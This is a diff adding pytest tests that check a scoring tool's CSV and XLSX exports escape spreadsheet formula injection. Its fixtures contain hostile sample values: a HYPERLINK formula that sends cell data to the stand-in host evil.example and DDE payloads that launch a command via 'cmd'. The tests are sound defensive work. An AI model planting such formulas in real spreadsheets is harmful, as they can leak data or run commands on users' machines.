@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import copy
+import csv
 import io
 import json
 import subprocess
@@ -294,6 +296,84 @@ def test_score_output_file(make_records, tmp_path):
     target = tmp_path / "results.json"
     assert run("score", "--format", "json", "--output", str(target), root=root).returncode == 0
     assert target.read_bytes() == run("score", "--format", "json", root=root).stdout
+
+
+# ---------------------------------------------------------------- spreadsheet injection
+
+FORMULA_NAMES = {
+    "admin": '=HYPERLINK("http://evil.example/?"&A1,"行政科")',
+    "security": "+1+cmd|' /C calc'!A0",
+}
+FORMULA_CONTRACT = dict(CONTRACT, name="@SUM(1+1)*cmd|' /C calc'!A0", provider="-2+3+cmd|'x'!A0")
+
+
+def _formula_records(make_records):
+    org = copy.deepcopy(BASE["org.yaml"])
+    for department in org["departments"]:
+        department["name"] = FORMULA_NAMES[department["id"]]
+    return make_records(
+        dict(WITH_SERVICES, **{"org.yaml": org, "services/greening.yaml": FORMULA_CONTRACT})
+    )
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("行政科", "行政科"),
+        ("a=1", "a=1"),
+        ("'=1", "'=1"),
+        ("", ""),
+    ],
+)
+def test_spreadsheet_text(text, written):
+    assert exports.spreadsheet_text(text) == written
+
+
+def test_score_csv_neutralises_formulas(make_records):
+    root = _formula_records(make_records)
+    months = run("score", "--format", "csv", root=root)
+    assert months.returncode == 0, months.stderr.decode()
+    rows = list(csv.DictReader(io.StringIO(months.stdout.decode("utf-8"))))
+    assert [row["name"] for row in rows] == [
+        "'" + FORMULA_NAMES["admin"],
+        "'" + FORMULA_NAMES["security"],
+    ]
+    assert [row["total"] for row in rows] == ["95.9", "96.15"]  # numbers stay numbers
+    services = run("score", "--format", "csv", "--table", "services", root=root)
+    (row,) = csv.DictReader(io.StringIO(services.stdout.decode("utf-8")))
+    assert (row["name"], row["provider"]) == (
+        "'" + FORMULA_CONTRACT["name"],
+        "'" + FORMULA_CONTRACT["provider"],
+    )
+    years = run("score", "--format", "csv", "--table", "years", root=root)
+    names = [row["name"] for row in csv.DictReader(io.StringIO(years.stdout.decode("utf-8")))]
+    assert names == ["'" + FORMULA_NAMES["admin"], "'" + FORMULA_NAMES["security"]]
+
+
+def test_score_xlsx_neutralises_formulas(make_records, tmp_path):
+    root = _formula_records(make_records)
+    target = tmp_path / "results.xlsx"
+    done = run("score", "--format", "xlsx", "--output", str(target), root=root)
+    assert done.returncode == 0, done.stderr.decode()
+    book = openpyxl.load_workbook(target)
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    month = list(book["2026-11"].iter_rows(values_only=True))
+    assert [row[1] for row in month[1:]] == [
+        "'" + FORMULA_NAMES["admin"],
+        "'" + FORMULA_NAMES["security"],
+    ]
+    assert [row[9] for row in month[1:]] == [95.9, 96.15]  # numbers stay numbers
+    years = list(book["年度"].iter_rows(values_only=True))
+    assert years[1][-1] == "'" + FORMULA_NAMES["admin"]
+    services = list(book["社会化服务"].iter_rows(values_only=True))
+    assert services[1][3:5] == ("'" + FORMULA_CONTRACT["name"], "'" + FORMULA_CONTRACT["provider"])
 
 
 CONTENT = {path: value for path, value in BASE.items() if path.startswith("2026-11/")}
